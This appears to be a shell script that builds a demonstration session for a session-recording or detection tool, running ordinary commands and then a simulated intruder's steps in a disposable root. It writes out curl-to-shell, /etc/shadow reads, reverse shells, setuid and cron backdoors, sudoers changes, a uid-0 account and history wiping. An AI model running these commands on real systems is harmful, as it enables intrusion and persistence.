#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
#
# What examples/linux-session.sonda shows: ordinary work and an intruder's,
# compressed into seconds. Nothing leaves the machine, but accounts, cron and
# sudo rules are changed: run it only as examples/make-session.sh does, in a
# root file system that is thrown away.
[ "$(cat /etc/hostname)" = demo ] || { echo "session.sh: not in the demonstration's root" >&2; exit 1; }
cd /root || exit 1
exec >/dev/null 2>&1 </dev/null

# Ordinary work.
ls -l /etc
date
echo 'echo installed' >install.sh
mv install.sh setup.sh
sort /etc/passwd >users.txt
tar -cf users.tar users.txt
gzip users.tar
python3 -m http.server --bind 127.0.0.1 8123 &
server=$!
until curl -s http://127.0.0.1:8123/users.txt -o copy.txt; do sleep 0.5; done

# An intruder comes in, looks around and settles.
sh -c 'curl -s http://127.0.0.1:8123/setup.sh | sh'
whoami
id
cat /etc/shadow
cp /bin/true /tmp/x && /tmp/x
cp /bin/true /dev/shm/.cache && /dev/shm/.cache
sh -c 'echo ZWNobyBoaQ== | base64 -d | sh'
cp /bin/true backdoor && chmod u+s backdoor
bash -c 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1'
python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect(("127.0.0.1",4444));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])'
mkdir -p .ssh && echo 'ssh-ed25519 AAAA demo' >>.ssh/authorized_keys
echo '* * * * * root /dev/shm/.cache' >/etc/cron.d/updates
echo 'demo ALL=(ALL) NOPASSWD: ALL' >/etc/sudoers.d/demo
useradd -o -u 0 -M toor
bash -c 'unset HISTFILE; history -c'

kill "$server"
